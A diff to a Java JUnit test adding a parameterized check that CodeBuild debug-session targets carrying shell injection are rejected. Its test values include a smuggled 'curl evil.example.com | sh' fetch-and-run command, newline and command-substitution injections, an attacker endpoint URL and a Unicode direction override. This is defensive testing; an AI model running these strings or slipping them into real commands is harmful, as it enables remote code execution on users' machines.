@@ -15,6 +15,8 @@ import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** A build that can be entered says so, but not how, where everybody reads it. */
 class DebugSessionTest extends SteppedBuilds {
@@ -84,6 +86,27 @@ class DebugSessionTest extends SteppedBuilds {
         for (String text : everywhere) {
             assertFalse(text.contains(target), text);
         }
+    }
+
+    /** People paste the command into their terminal, whoever has answered as AWS. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "codebuild:1; curl evil.example.com | sh",
+                "codebuild:1\ncurl evil.example.com",
+                "$(id)",
+                "`id`",
+                "a & b",
+                "a > b",
+                "--endpoint-url=https://evil.example.com",
+                "\u202ea",
+                "'",
+                ""
+            })
+    void noOtherCommandIsMadeOfIt(String target) {
+        assertNull(DebugSession.of(software.amazon.awssdk.services.codebuild.model.Build.builder()
+                .debugSession(session -> session.sessionEnabled(true).sessionTarget(target))
+                .build()));
     }
 
     @Test
